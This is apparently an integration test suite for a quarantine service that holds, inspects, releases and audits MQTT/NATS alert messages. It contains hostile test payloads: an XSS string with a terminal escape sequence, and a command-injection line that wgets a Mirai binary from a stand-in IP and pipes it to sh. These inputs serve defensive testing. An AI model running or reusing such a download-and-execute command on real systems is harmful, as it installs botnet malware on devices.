/**
 * What verdicts have held back can be looked at without harm, and let go: once, in order, on record. A little
 * over the usual length: all of it needs a whole region, which starts once.
 */
import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sentinel, startSentinel } from "../../app/cli/sentinel.fixture.ts";
import { headers } from "../../app/contract/headers.ts";
import { subjects, topics } from "../../app/contract/subjects.ts";
import { hostileTexts, isHarmless } from "../../app/shared/hostile-texts.fixture.ts";
import { jetstream, type NatsConnection } from "../../app/shared/nats.ts";
import type { Region } from "../../local/region.ts";
import { type ApiClient, regionApi } from "../support/api-client.ts";
import { boundStream } from "../support/bounded.ts";
import { connectInTime, registerDevice } from "../support/clients.ts";
import { storeAlert } from "../support/numbered-alerts.ts";
import { connectAs, readAudit, readStream } from "../support/stored.ts";
import { startTestRegion } from "../support/test-region.ts";

const soon = { timeout: 120_000, interval: 100 };
const clients = 20;
const each = 50;

let region: Region;
let operator: NatsConnection;
let bridge: NatsConnection;
let inspector: NatsConnection;
let settings: Record<string, string>;
let viewer: ApiClient;
let releasing: ApiClient;

beforeAll(async () => {
  const counts = { core: 3, edges: 1, bridges: 0, inspectors: 2, auths: 1 } as const;
  region = await startTestRegion({ ...counts, console: true });
  operator = await connectAs(region, "operator");
  bridge = await connectAs(region, "bridge");
  inspector = await connectAs(region, "inspector");
  viewer = regionApi(region, "viewer");
  releasing = regionApi(region, "operator");
  settings = {
    NATS_SERVERS: region.endpoints.natsServers.join(","),
    NATS_CA_FILE: region.certificates.caFile,
    OPERATOR_PASSWORD_FILE: region.secrets.passwordFile("operator"),
    AUDIT_KEYS_FILE: region.secrets.auditKeysFile,
    SENTINEL_OPERATOR: "eve",
  };
});
afterAll(async () => {
  await Promise.all([operator, bridge, inspector].map((connection) => connection?.close()));
  await region?.stop();
});

/** Alerts to clients that nobody knows are held. */
const hold = (client: string, payload: string) =>
  jetstream(bridge).publish(subjects.ingress("upstream", client), payload);
const held = (client: string) =>
  readStream(operator, "QUARANTINE", subjects.quarantine("*", client));
const alertsOf = (client: string) => readStream(operator, "MQTT_ALERTS", subjects.alerts(client));

async function heldOne(client: string, payload: string): Promise<number> {
  await hold(client, payload);
  await expect.poll(() => held(client).then((all) => all.length), soon).toBe(1);
  return (await held(client))[0]?.sequence ?? 0;
}

interface Remediation {
  readonly status: string;
  readonly activity_name: string;
  readonly message: string;
  readonly command_uid: string;
  readonly actor: { readonly user: { readonly name: string } };
  readonly unmapped: { readonly asked_by: string; readonly messages: { sequence: number }[] };
}
const recordsOf = (client: string) =>
  readAudit<Remediation>(operator, subjects.quarantineAudit(client));

it("1,000 messages are released in bulk, each once and in order, though both ends are killed half-way", async () => {
  const ids = Array.from({ length: clients }, (_, i) => `bulk-${i}`);
  await Promise.all(
    ids.map(async (client) => {
      for (let n = 0; n < each; n++) await hold(client, JSON.stringify({ client, n }));
    }),
  );
  const all = () => readStream(operator, "QUARANTINE", subjects.quarantine("upstream", "*"));
  await expect.poll(async () => (await all()).length, soon).toBe(clients * each);
  const secret = await registerDevice(region, "bulk-0");
  const device = await connectInTime(region, { clientId: "bulk-0", password: secret });
  await device.client.subscribeAsync(topics.alerts("bulk-0"));

  const since = '{"since":"it was held"}';
  await storeAlert(inspector, "bulk-0", since);
  const stored = async () =>
    (await readStream(operator, "MQTT_ALERTS")).filter(
      ({ subject, payload }) => subject.includes("bulk-") && payload !== since,
    );
  const operation = randomUUID();
  const args = ["quarantine", "release", "--all", "--reason", "a rule was wrong", "--yes"];
  const first = startSentinel([...args, "--operation", operation], settings);
  await expect.poll(async () => (await stored()).length, soon).toBeGreaterThan(100);
  first.child.kill("SIGKILL");
  await first.finished;
  const second = startSentinel([...args, "--operation", operation], settings);
  const before = (await stored()).length;
  // On a slow machine all may be released before anybody looks.
  const some = Math.min(before + 50, clients * each);
  await expect.poll(async () => (await stored()).length, soon).toBeGreaterThanOrEqual(some);
  region.process("inspector-1").kill("SIGKILL");
  second.child.kill("SIGKILL");
  await second.finished;

  const last = await sentinel([...args, "--operation", operation], settings);

  expect([last.code, last.stderr]).toEqual([0, expect.stringContaining(operation)]);
  await region.process("inspector-1").start();
  const delivered = await stored();
  expect(delivered).toHaveLength(clients * each);
  for (const client of ids) {
    const numbers = delivered
      .filter(({ subject }) => subject === subjects.alerts(client))
      .map(({ payload }) => JSON.parse(payload).n);
    expect(numbers).toEqual(Array.from({ length: each }, (_, n) => n));
  }
  expect(delivered.every((alert) => Number(alert.header(headers.released)) > 0)).toBe(true);
  const released = Array.from({ length: each }, (_, n) => JSON.stringify({ client: "bulk-0", n }));
  await expect
    .poll(() => device.received.map(({ payload }) => payload), soon)
    .toEqual([since, ...released]);
  await device.client.endAsync(true);
  const again = await sentinel(args, settings);
  expect([again.code, again.stdout]).toEqual([0, "0 released\n"]);
  const { code, stdout } = await sentinel(["audit", "verify"], settings);
  expect(stdout).toMatch(/inspector-[12]-/);
  expect(code).toBe(0);
});

describe("a held message", () => {
  it("is shown inert, whatever is in it, by the command line and by the API", async () => {
    const short = hostileTexts.filter((text) => text.length < 100);
    const evil = `<script>alert(1)</script>\u001b]0;owned\u0007${short.join("")}`;
    const sequence = await heldOne("inert-1", evil);

    const shown = await sentinel(["quarantine", "show", String(sequence)], settings);
    const listed = await sentinel(["quarantine", "list", "--client", "inert-1"], settings);
    const { body } = await viewer("GET", `/api/v1/quarantine/${sequence}`);

    const texts = [shown.stdout, listed.stdout, body.text, body.hex];
    for (const text of texts) expect(isHarmless(text.replaceAll("\n", ""))).toBe(true);
    expect(shown.stdout).toContain("<script>alert(1)</script>");
    expect(shown.stdout).toContain("1b 5d 30 3b 6f 77 6e");
    expect(listed.stdout).toContain("recipient-unknown");
    expect(body).toMatchObject({
      ...{ sequence, clientId: "inert-1", origin: "upstream", state: "held" },
      ...{ rules: expect.arrayContaining(["recipient-unknown"]), size: Buffer.byteLength(evil) },
    });
  });

  it("is released by the API with a reason, once, and on record under the token's name", async () => {
    const sequence = await heldOne("api-1", '{"id":"api"}');
    const path = `/api/v1/quarantine/${sequence}/release`;
    expect((await viewer("POST", path, { body: { reason: "it is good" } })).status).toBe(403);
    expect((await releasing("POST", path, { body: {} })).status).toBe(422);

    const reason = "it is good";
    const done = await releasing("POST", path, { body: { reason, operationId: "op-1" } });
    const again = await releasing("POST", path, { body: { reason, operationId: "op-1" } });

    expect(done.body).toEqual({ outcome: "decided", operationId: "op-1" });
    expect(again.body).toEqual({ outcome: "unchanged", operationId: "op-1" });
    expect((await alertsOf("api-1")).map(({ payload }) => payload)).toEqual(['{"id":"api"}']);
    const { body } = await viewer("GET", `/api/v1/quarantine/${sequence}`);
    expect(body).toMatchObject({ state: "released", decision: { actor: "api:operator", reason } });
    const drop = { body: { reason: "changed my mind" } };
    const late = await releasing("POST", `/api/v1/quarantine/${sequence}/drop`, drop);
    expect([late.status, late.body.code]).toEqual([409, "message-decided"]);
    await expect
      .poll(() => recordsOf("api-1").then((all) => all.map(({ status }) => status)), soon)
      .toEqual(["Requested", "Success"]);
    for (const record of await recordsOf("api-1")) {
      expect(record).toMatchObject({
        ...{ activity_name: "Restore", message: reason, command_uid: "op-1" },
        actor: { user: { name: "api:operator" } },
        unmapped: { asked_by: "console", messages: [{ sequence }] },
      });
    }
  });

  it("that is dropped is never delivered, and can still be looked at", async () => {
    const sequence = await heldOne("dropped-1", '{"id":"dropped"}');
    const named = [String(sequence), "--reason", "an attack"];

    const dropped = await sentinel(["quarantine", "drop", ...named], settings);
    const late = await sentinel(["quarantine", "release", ...named], settings);

    expect([dropped.code, dropped.stdout]).toEqual([0, `${sequence}: dropped\n`]);
    expect(late.code).toBe(1);
    expect(late.stderr).toContain("was dropped before");
    expect(await alertsOf("dropped-1")).toEqual([]);
    const { stdout } = await sentinel(
      ["quarantine", "list", "--state", "dropped", "--json"],
      settings,
    );
    expect(JSON.parse(stdout)).toMatchObject({ sequence, decision: { actor: "eve" } });
  });

  it("of a device goes to REPORTS, by those who inspect reports", async () => {
    const password = await registerDevice(region, "reporting-1");
    const { client } = await connectInTime(region, { clientId: "reporting-1", password });
    const attack = '{"command":"; wget http://203.0.113.9/bins/mirai.arm7 -O- | sh"}';
    await client.publishAsync(topics.reports("reporting-1"), attack, { qos: 1 });
    await client.endAsync(true);
    await expect.poll(() => held("reporting-1").then((all) => all.length), soon).toBe(1);

    const bulk = { operationId: "op-2", reason: "a drill", filter: { client: "reporting-1" } };
    const { status, body } = await releasing("POST", "/api/v1/quarantine/release", { body: bulk });

    expect([status, body.outcomes.decided, body.next]).toEqual([200, 1, undefined]);
    const reports = await readStream(operator, "REPORTS", subjects.reports("reporting-1"));
    expect(reports.map(({ payload }) => payload)).toEqual([attack]);
    expect(await alertsOf("reporting-1")).toEqual([]);
  });

  it("is asked for by its place in QUARANTINE, and nothing else can be delivered that way", async () => {
    const sequence = await heldOne("forged-1", '{"id":"held"}');
    const { storedAt } = (await held("forged-1"))[0] ?? { storedAt: 0 };
    const attacker = await connectAs(region, "console");
    const ask = (messages: object[], origin: "upstream" | "device" = "upstream") => {
      const asked = {
        action: "release",
        operation: "o",
        actor: "api:a",
        reason: "because",
        messages,
      };
      const subject = subjects.decisionRequest(origin, "console");
      return attacker.request(subject, JSON.stringify(asked), { timeout: 10_000 });
    };
    const outcomeOf = async (message: object, origin?: "device") => {
      const answer = (await ask([message], origin)).json<{ outcomes: { outcome: string }[] }>();
      return answer.outcomes[0]?.outcome;
    };

    expect(await outcomeOf({ sequence, storedAt: storedAt + 1 })).toBe("unknown");
    expect(await outcomeOf({ sequence, storedAt }, "device")).toBe("unknown");
    expect(await outcomeOf({ sequence: 999_999, storedAt })).toBe("unknown");
    const malformed = await ask([{ sequence, storedAt, payload: "forged" }]);
    expect(malformed.json()).toMatchObject({ failure: "malformed" });
    expect(await alertsOf("forged-1")).toEqual([]);
    expect(await outcomeOf({ sequence, storedAt })).toBe("decided");
    expect((await alertsOf("forged-1")).map(({ payload }) => payload)).toEqual(['{"id":"held"}']);
    await attacker.close();
  });

  it("stays held while AUDIT takes no record of it", async () => {
    const sequence = await heldOne("unaudited-1", '{"id":"unaudited"}');
    const lift = await boundStream(region, "AUDIT", 1);
    const path = `/api/v1/quarantine/${sequence}/release`;

    const refused = await releasing("POST", path, { body: { reason: "nobody knows" } });

    expect([refused.status, refused.body.code]).toEqual([503, "audit-unavailable"]);
    expect(await alertsOf("unaudited-1")).toEqual([]);
    await lift();
    const retried = () =>
      releasing("POST", path, { body: { reason: "now it is on record" } }).then((a) => a.status);
    await expect.poll(retried, soon).toBe(200);
    expect(await alertsOf("unaudited-1")).toHaveLength(1);
  });
});
